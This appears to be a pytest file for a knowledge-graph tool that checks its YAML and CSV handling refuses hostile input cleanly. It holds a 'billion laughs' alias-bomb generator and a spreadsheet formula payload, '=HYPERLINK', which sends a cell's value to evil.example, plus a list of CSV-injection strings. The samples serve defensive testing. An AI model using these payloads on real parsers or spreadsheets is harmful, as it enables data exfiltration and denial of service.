"""Input made to hurt: an alias bomb, YAML nested hundreds deep, a huge source, a NUL byte, a long article, a
broken file beside other problems. Each ends quickly in one line per problem naming file, line and field."""

from __future__ import annotations

import re
import time
from pathlib import Path

import pytest

from kg.data.yaml_strict import MAX_DEPTH, MAX_FILE_BYTES, load_yaml
from kg.errors import DataError

CLAIMS = "2019-12-news-ofsted-third-monitoring-visit.yaml"
SOURCE = "2019-12-news-ofsted-third-monitoring-visit"


def _bomb() -> str:
    """The classic "billion laughs": nine lists of nine aliases of the last, 9**9 strings when expanded."""
    lines = ["source: " + SOURCE, 'a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for previous, name in zip("abcdefgh", "bcdefghi", strict=True):
        lines.append(f"{name}: &{name} [{', '.join([f'*{previous}'] * 9)}]")
    lines.append("claims: [{id: x001-visit, type: visit, quote: *i}]")
    return "\n".join(lines) + "\n"


def _nested(depth: int) -> str:
    return f"source: {SOURCE}\nclaims: {'[' * depth}{']' * depth}\n"


def _replace(path: Path, old: str, new: str) -> None:
    text = path.read_text(encoding="utf-8")
    assert old in text, f"fixture edit: {old!r} not in {path.name}"
    path.write_text(text.replace(old, new, 1), encoding="utf-8")


def _problems(result: object) -> list[str]:
    lines = result.stderr.splitlines()  # type: ignore[attr-defined]
    assert lines and lines[0].startswith("data error:"), lines
    return lines[1:]


def test_alias_bomb_is_refused_at_once(tmp_path):
    path = tmp_path / "bomb.yaml"
    path.write_text(_bomb(), encoding="utf-8")
    assert len(path.read_bytes()) < 700
    started = time.perf_counter()
    with pytest.raises(DataError, match=r"bomb\.yaml:\d+:\d+: aliases expand this value past 100,000 nodes"):
        load_yaml(path)
    assert time.perf_counter() - started < 0.5


def test_alias_bomb_in_pending_stops_review_with_one_line(data_copy, kg):
    (data_copy / "pending").mkdir(exist_ok=True)
    (data_copy / "pending" / f"{SOURCE}.yaml").write_text(_bomb(), encoding="utf-8")
    started = time.perf_counter()
    result = kg("review", "--data", data_copy)
    assert time.perf_counter() - started < 20  # the whole command, data/ loaded included; past 60 s before
    assert result.exit_code == 2, result.output
    assert re.search(rf"pending/{SOURCE}\.yaml:\d+:\d+: aliases expand", result.stderr), result.stderr
    assert "Traceback" not in result.output + result.stderr


def test_aliases_that_repeat_a_little_still_load(tmp_path):
    path = tmp_path / "shared.yaml"
    path.write_text("common: &c {a: 1, b: [1, 2]}\none: *c\ntwo: *c\n", encoding="utf-8")
    assert load_yaml(path)["two"] == {"a": 1, "b": [1, 2]}


def test_recursive_alias_is_refused(tmp_path):
    path = tmp_path / "loop.yaml"
    path.write_text("a: &a [1, *a]\n", encoding="utf-8")
    with pytest.raises(DataError, match=r"loop\.yaml:1:4: a recursive alias"):
        load_yaml(path)


@pytest.mark.parametrize("depth", [MAX_DEPTH + 1, 300, 999])
def test_deep_nesting_is_refused_with_file_line_column(tmp_path, depth):
    path = tmp_path / "deep.yaml"
    path.write_text(_nested(depth), encoding="utf-8")
    with pytest.raises(DataError, match=rf"deep\.yaml:2:\d+: this value nests more than {MAX_DEPTH} levels deep"):
        load_yaml(path)


def test_nesting_up_to_the_limit_loads(tmp_path):
    path = tmp_path / "deep.yaml"
    path.write_text("[" * MAX_DEPTH + "]" * MAX_DEPTH, encoding="utf-8")
    assert load_yaml(path) is not None


@pytest.mark.parametrize("depth", [300, 999])
def test_deep_claims_file_fails_the_build_cleanly(data_copy, tmp_path, kg, depth):
    (data_copy / "claims" / CLAIMS).write_text(_nested(depth), encoding="utf-8")
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert re.search(rf"{CLAIMS}:2:\d+: this value nests more than", result.stderr), result.stderr
    assert not (tmp_path / "out" / "graph.trig").exists()


def test_source_over_the_size_limit_is_refused_before_it_is_read(data_copy, tmp_path, kg, monkeypatch):
    text = data_copy / "sources" / f"{SOURCE}.txt"
    with text.open("r+b") as f:
        f.truncate(MAX_FILE_BYTES + 1)  # sparse: no 16 MiB written
    reads: list[Path] = []
    real = Path.read_bytes
    monkeypatch.setattr(Path, "read_bytes", lambda self: reads.append(self) or real(self))
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    problems = _problems(result)
    assert f"{SOURCE}.txt: file is 16,777,217 bytes; the limit is 16 MiB" in problems[0]
    assert text not in reads


def test_raw_nul_byte_in_a_source_names_line_and_column(data_copy, tmp_path, kg):
    text = data_copy / "sources" / f"{SOURCE}.txt"
    text.write_bytes(text.read_bytes().replace(b"\n", b"\nab\x00", 2).replace(b"\nab\x00", b"\n", 1))
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert any(re.search(rf"{SOURCE}\.txt:\d+:3: a NUL byte", p) for p in _problems(result)), result.stderr


def test_escaped_nul_in_a_name_names_line_and_field(data_copy, tmp_path, kg):
    people = data_copy / "entities" / "people.yaml"
    line = next(n for n, t in enumerate(people.read_text(encoding="utf-8").splitlines(), 1) if "name:" in t)
    text = people.read_text(encoding="utf-8").splitlines()
    text[line - 1] = re.sub(r"name: .*", r'name: "Jane\\0Doe"', text[line - 1])
    people.write_text("\n".join(text) + "\n", encoding="utf-8")
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert re.search(rf"people\.yaml:{line}:\d+: name: contains a NUL character", result.stderr), result.stderr


def test_control_character_in_yaml_names_line_and_column(tmp_path):
    path = tmp_path / "ctl.yaml"
    path.write_text('a: 1\nb: "x\x01y"\n', encoding="utf-8")
    with pytest.raises(DataError, match=r"ctl\.yaml:2:6: YAML error: control characters are not allowed"):
        load_yaml(path)


def test_scalar_claim_item_names_line_and_field(data_copy, tmp_path, kg):
    path = data_copy / "claims" / CLAIMS
    lines = path.read_text(encoding="utf-8").splitlines()
    path.write_text("\n".join(lines) + "\n  - just some words\n", encoding="utf-8")
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    assert f"{CLAIMS}:{len(lines) + 1}:5: claims: each claim must be a mapping" in result.stderr, result.stderr


def test_broken_source_does_not_hide_a_broken_claim_elsewhere(data_copy, tmp_path, kg):
    other = sorted(p.stem for p in (data_copy / "sources").glob("*.yaml") if p.stem != SOURCE)[0]
    _replace(data_copy / "sources" / f"{other}.yaml", "published:", "published: [")
    _replace(data_copy / "claims" / CLAIMS, "person: jan-edwards", "person: nobody-at-all")
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    problems = _problems(result)
    assert any(f"sources/{other}.yaml:" in p and "YAML syntax error" in p for p in problems), problems
    assert any(re.search(rf"{CLAIMS}:\d+:\d+: person: unknown id 'nobody-at-all'", p) for p in problems), problems
    assert not any(f"claims/{other}.yaml" in p for p in problems), "the broken source's claims add no noise"


def test_broken_entity_file_does_not_hide_claim_problems(data_copy, tmp_path, kg):
    _replace(data_copy / "entities" / "posts.yaml", "label:", "label: [")
    _replace(data_copy / "claims" / CLAIMS, "type: visit", "type: vizit")
    result = kg("build", "--data", data_copy, "--out", tmp_path / "out")
    assert result.exit_code == 2
    problems = _problems(result)
    assert any("posts.yaml:" in p and "YAML syntax error" in p for p in problems), problems
    assert any(re.search(rf"{CLAIMS}:\d+:\d+: type: unknown claim type 'vizit'", p) for p in problems), problems
    assert not any("unknown id" in p for p in problems), "ids in the unreadable file are not reported unknown"


def test_integrity_violations_name_file_line_and_field(kg, data_copy):
    path = data_copy / "claims" / "2021-news-ofsted-monitoring-visit-children-in-care.yaml"
    _replace(path, "earliest: 2021-07-01, latest: 2021-08-31", "value: 2022-03")
    result = kg("validate", "--data", data_copy)
    assert result.exit_code == 3
    assert re.search(
        r"2021-news-ofsted-monitoring-visit-children-in-care\.yaml:\d+:\d+: date: claim '[a-z0-9-]+': date 2022-03 "
        r"is after the source's own date",
        result.stderr,
    ), result.stderr


HOSTILE = Path(__file__).parent / "fixtures" / "hostile-data"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'


@pytest.fixture(scope="module")
def hostile_out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    from kg.data.paths import Paths
    from kg.graph.build import build

    out = tmp_path_factory.mktemp("hostile") / "out"
    build(Paths(data=HOSTILE, output=out))
    return out


def _csv_commands(out: Path) -> dict[str, list[str]]:
    return {
        "who-held": ["who-held", "chief executive", "-f", "csv", "--out", str(out)],
        "timeline": ["timeline", "-f", "csv", "--out", str(out)],
        "export": ["export", "--format", "csv", "--out", str(out)],
        "query": ["query", "SELECT ?name WHERE { ?p foaf:name ?name }", "-f", "csv", "--out", str(out)],
    }


@pytest.mark.parametrize("command", ["who-held", "timeline", "export", "query"])
def test_every_csv_neutralises_formulas(hostile_out, kg, command):
    import csv
    import io

    result = kg(*_csv_commands(hostile_out)[command])
    assert result.exit_code == 0, result.output
    cells = [cell for row in csv.reader(io.StringIO(result.stdout)) for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells), cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "\x1b" not in result.stdout and "\x07" not in result.stdout


def test_csv_cell_follows_owasp():
    from kg.store.sparql import csv_cell

    for hostile in ("=1+1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "\x1b=1+1"):
        assert csv_cell(hostile).startswith("'"), hostile
    for plain in ("Jane Smith", "-12", "+3.5", "2019-06-01", "", "a=b"):
        assert csv_cell(plain) == plain


@pytest.mark.parametrize(
    "args",
    [
        ["who-held", "chief executive"],
        ["timeline"],
        ["query", "SELECT ?label WHERE { ?p skos:prefLabel ?label }"],
    ],
)
def test_tables_carry_no_terminal_control_characters(hostile_out, kg, args):
    result = kg(*args, "--out", str(hostile_out))
    assert result.exit_code == 0, result.output
    assert "Chief executive forged row" in result.stdout  # the label is shown, its line break as a space
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f]", result.stdout), repr(result.stdout)
    rows = result.stdout.splitlines()
    counted = re.fullmatch(r"\((\d+) rows?\)", rows[-1])
    assert counted and len(rows) == int(counted[1]) + 3, rows  # header, rule, rows, count: no row broken in two


@pytest.mark.parametrize("store", [False, True])
def test_invalid_iri_param_is_refused_the_same_everywhere(built, tmp_path, store, caplog):
    from kg.errors import QueryError
    from kg.store.sparql import run_query

    ds = built.dataset
    if store:
        import pyoxigraph

        from kg.store.backend import oxigraph_dataset

        ds = oxigraph_dataset(pyoxigraph.Store())
    bad = "https://w3id.org/accountability-kg/id/person/jan edwards"
    with pytest.raises(QueryError, match=r"--param person: .* is not a valid IRI"):
        run_query(ds, "person-posts", {"person": bad})
    assert "does not look like a valid URI" not in caplog.text


def _long_article(tmp_path: Path) -> Path:
    from kg.extract.reader import MAX_ARTICLE_CHARS

    path = tmp_path / "2024-01-news-very-long.txt"
    sentence = "Ofsted inspectors said the council's progress was too slow. "
    path.write_text(sentence * (MAX_ARTICLE_CHARS // len(sentence) + 1), encoding="utf-8")
    return path


def test_extract_refuses_an_article_over_a_million_characters(tmp_path, data_copy, kg):
    article = _long_article(tmp_path)
    result = kg("extract", "--data", data_copy, article)
    assert result.exit_code == 2, result.output
    assert f"{article}: the article is 1,000," in result.stderr
    assert "extraction reads at most 1,000,000" in result.stderr
    assert "Traceback" not in result.output + result.stderr


def test_ingest_refuses_an_article_over_a_million_characters(tmp_path, data_copy, kg):
    article = _long_article(tmp_path)
    before = sorted(p.relative_to(data_copy) for p in data_copy.rglob("*") if not p.name.startswith(".kg"))
    result = kg("ingest", "--data", data_copy, "--date", "2024-01", "--title", "Long", "--publisher", "ofsted", article)
    assert result.exit_code == 2, result.output
    assert f"{article}: the article is 1,000," in result.stderr
    assert sorted(p.relative_to(data_copy) for p in data_copy.rglob("*") if not p.name.startswith(".kg")) == before
